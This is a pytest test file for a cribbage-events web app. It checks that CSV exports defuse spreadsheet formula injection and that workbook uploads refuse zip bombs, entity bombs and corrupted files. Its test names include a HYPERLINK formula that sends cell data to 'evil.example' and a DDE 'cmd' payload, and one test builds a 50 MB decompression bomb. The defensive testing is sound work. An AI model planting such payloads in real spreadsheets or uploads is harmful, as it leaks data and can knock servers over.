"""Spreadsheets that go out carry no formulas; those that come in can't fill the machine."""

import contextlib
import csv
import datetime
import io
import re
import warnings
import zipfile
from collections.abc import Iterator
from itertools import chain
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.reader import strings
from openpyxl.worksheet import _reader as cells
from openpyxl.xml.functions import iterparse

from cribbage_events.events.models import Event
from cribbage_events.leagues.closing import close_night
from cribbage_events.spreadsheets import (
    SpreadsheetError,
    read_file,
    read_people,
    tables,
)
from cribbage_events.spreadsheets.writing import FORMULA
from tests.building import drawn_event, fresh, games_in, say
from tests.events.desk_client import at, director_of
from tests.factories import rename
from tests.leagues.factories import DESK, make_season
from tests.leagues.night import make_member
from tests.leagues.singles.nights import draw_night, here, latest, make_singles_night, play_all
from tests.redteam.bombs import entities, just_read, odd, parts, sheet, texts, workbook
from tests.tournaments.building import tournament
from tests.walk.hall import Visitor, fill_hall, knock
from tests.walk.who_may_enter import TABLE, may_read

pytestmark = pytest.mark.django_db

TODAY = datetime.date(2026, 11, 22)
NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"win")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    'Ann "Ace", Lee\n=1+1',
    "Ann;=1+1",
    "Bob\t+1|-2",
]


def as_typed(cell: str) -> str:
    """Return the cell without the apostrophes that keep it from being calculated."""
    return re.sub(r"(^|[;,|\t\r\n]\s*)'(?=[=+\-@\t])", r"\1", cell)


def standings_of(client: Client, names: list[str]) -> list[list[str]]:
    event = drawn_event([60] * len(names), round_count=1)
    for entry, name in zip(event.entries.select_related("person"), names, strict=False):
        rename(entry.person, name)
    for game in games_in(event, 1):
        say(game, 121, 70)
    answer = client.get(at(fresh(event), "standings_csv"))
    assert not re.search(r"[;,|\t\r\n]\s*[=+@]", answer.content.decode())
    return list(csv.reader(io.StringIO(answer.content.decode(), newline="")))


def test_no_name_becomes_a_formula_and_every_number_stays_one(client: Client) -> None:
    heading, *lines = standings_of(client, NAMES)
    assert len(lines) == len(NAMES)
    rows = [dict(zip(heading, line, strict=True)) for line in lines]
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert sorted(as_typed(row["name"]) for row in rows) == sorted(NAMES)
    assert {row["spread"] for row in rows} == {"51", "-51"}
    assert {row["plus"] for row in rows} == {"51", "0"}


def test_every_table_that_goes_out_is_looked_at_here() -> None:
    hall = fill_hall()
    read = [name for name in TABLE if may_read(Visitor.DIRECTOR, name)]
    answers = {name: knock(hall, Visitor.DIRECTOR, "get", name)[0] for name in read}
    sheets = {name for name in read if re.search("csv|spreadsheet", answers[name]["Content-Type"])}
    looked_at = {"events:standings_csv", "events:report_csv", "leagues:night_csv"}
    looked_at |= {"leagues:report_csv", "leagues:table_csv"}
    # The league's ledger holds dates and amounts, and the pattern of a list of old results holds
    # examples. Members are tested below, attendance in tests/leagues/attendance.
    others = {"leagues:ledger_csv", "memory:old_template"}
    others |= {"leagues:members_csv", "leagues:attendance_csv"}
    assert sheets == looked_at | others


def words_in(body: bytes) -> list[str]:
    """Return every cell that isn’t a number."""
    cells = chain(*csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return [cell for cell in cells if not re.fullmatch(r"[+-]?\d*", cell)]


def call_everybody(event: Event, names: list[str]) -> None:
    for entry, name in zip(event.entries.select_related("person"), names, strict=True):
        rename(entry.person, name)


def test_no_name_becomes_a_formula_in_the_report_of_a_tournament() -> None:
    event = tournament(len(NAMES))
    call_everybody(event, NAMES)
    found = words_in(director_of(event.club).get(at(event, "report_csv")).content)
    assert set(NAMES) == set(map(as_typed, found)) & set(NAMES)
    assert not [words for words in found if words.startswith(FORMULA)]


def test_no_name_becomes_a_formula_in_the_tables_of_a_grass_roots_club() -> None:
    night = make_singles_night(round_count=1)
    here(night, len(NAMES))
    event = draw_night(night)
    call_everybody(event, NAMES)
    play_all(event)
    close_night(night, by=DESK, seen=latest(night).revision)
    director = director_of(event.club)
    for where in (
        reverse("leagues:night_csv", args=[event.slug]),
        reverse("leagues:report_csv", args=[event.slug]),
        reverse("leagues:table_csv", args=[night.season.slug]),
    ):
        found = words_in(director.get(where).content)
        assert set(NAMES) == set(map(as_typed, found)) & set(NAMES)
        assert not [words for words in found if words.startswith(FORMULA)]


def test_no_member_becomes_a_formula() -> None:
    season = make_season()
    for name in NAMES:
        make_member(season.club, name)
    answer = director_of(season.club).get(reverse("leagues:members_csv", args=[season.slug]))
    _, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    names = [line[0] for line in lines]
    assert not [name for name in names if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(map(as_typed, names)) == sorted(NAMES)


def test_a_small_workbook_that_unpacks_to_a_large_one_is_refused() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
    assert len(packed.getvalue()) < 100_000
    with pytest.raises(SpreadsheetError, match="too large"):
        read_file(packed.getvalue())


@pytest.mark.parametrize("name", entities())
def test_a_workbook_of_entities_is_refused_before_they_are_replaced(name: str) -> None:
    """3 kB of them became 90 MB."""
    data = entities()[name]
    assert len(data) < 10_000
    with pytest.raises(SpreadsheetError, match="can’t be opened"):
        read_file(data)


def test_a_workbook_that_lies_about_its_size_is_refused() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", b" " * 50_000_000)
    data = packed.getvalue().replace((50_000_000).to_bytes(4, "little"), (50).to_bytes(4, "little"))
    with pytest.raises(SpreadsheetError):
        read_file(data)


@given(data=st.data())
def test_no_damage_to_a_workbook_is_more_than_a_refusal(data: st.DataObject) -> None:
    changed = dict(parts())
    name = data.draw(st.sampled_from(sorted(changed)))
    content = changed[name]
    at = data.draw(st.integers(0, len(content)))
    put = data.draw(st.sampled_from([b"", b"<", b"&", b"9" * 40, b"x", b'"', b"-1", b't="s" ']))
    changed[name] = content[:at] + put + content[at + data.draw(st.integers(0, 30)) :]
    with contextlib.suppress(SpreadsheetError), warnings.catch_warnings(action="ignore"):
        read_people(read_file(workbook(changed)))


@given(st.integers(0, 6000), st.binary(min_size=1, max_size=4))
def test_no_damaged_byte_of_a_workbook_is_more_than_a_refusal(at: int, put: bytes) -> None:
    whole = workbook({})
    at %= len(whole)
    damaged = whole[:at] + put + whole[at + len(put) :]
    with contextlib.suppress(SpreadsheetError), warnings.catch_warnings(action="ignore"):
        read_people(read_file(damaged))


def test_a_sheet_as_wide_as_can_be_is_read_as_far_as_a_list_goes() -> None:
    book, out = Workbook(), io.BytesIO()
    for row in (["Name"], ["Ann Lee"]):
        book.worksheets[0].append(row)
    book.worksheets[0].cell(row=400, column=16_384, value="far away")
    book.save(out)
    assert max(map(len, read_file(out.getvalue()).rows)) <= 60


@pytest.mark.parametrize("data", [b"a," * 1_500_000, b"Name\n" + b"Ann\n" * 600, b"\n" * 1_000_000])
def test_a_huge_list_is_refused(data: bytes) -> None:
    with pytest.raises(SpreadsheetError):
        read_file(data)


@pytest.mark.parametrize(
    "changed",
    [
        texts(b"<si><t/></si>" * 200_000),
        sheet(b"<row>" + b"<c/>" * 700_000 + b"</row>"),
        sheet(b"<row/>" * 700_000),
        sheet(b"<row " + b" ".join(b'a%d=""' % each for each in range(700_000)) + b"/>"),
        texts(b"<si><t>" + b"x" * 20_000_000 + b"</t></si>"),
    ],
    ids=["empty texts", "empty cells", "empty rows", "attributes", "a long text"],
)
def test_a_small_file_with_very_many_parts_is_refused_before_they_are_read(
    changed: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delattr(tables, "load_workbook")
    data = workbook(changed)
    assert len(data) < 2_000_000
    with pytest.raises(SpreadsheetError, match="too large"):
        read_file(data)


@pytest.mark.parametrize("name", just_read())
def test_of_a_small_file_no_more_parts_are_read_than_a_list_may_have(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each takes time, so this limits how long a file takes."""
    read = 0

    def counted(*args: Any) -> Iterator[Any]:
        nonlocal read
        for event in iterparse(*args):
            read += 1
            yield event

    for module in (strings, cells):
        monkeypatch.setattr(module, "iterparse", counted)
    with contextlib.suppress(SpreadsheetError):
        read_file(just_read()[name])
    assert 100_000 < read <= tables.MAX_MARKS


def test_a_list_as_long_and_as_wide_as_can_be_is_read() -> None:
    book, out = Workbook(), io.BytesIO()
    for row in range(500):
        book.worksheets[0].append([f"Name {row} {column}" for column in range(60)])
    book.save(out)
    table = read_file(out.getvalue()).rows
    assert (len(table), len(table[0])) == (500, 60)


@pytest.mark.parametrize("name", odd())
def test_workbooks_that_break_the_reader_are_refused_in_words(name: str) -> None:
    with pytest.raises(SpreadsheetError, match="can’t be opened"):
        read_file(odd()[name])
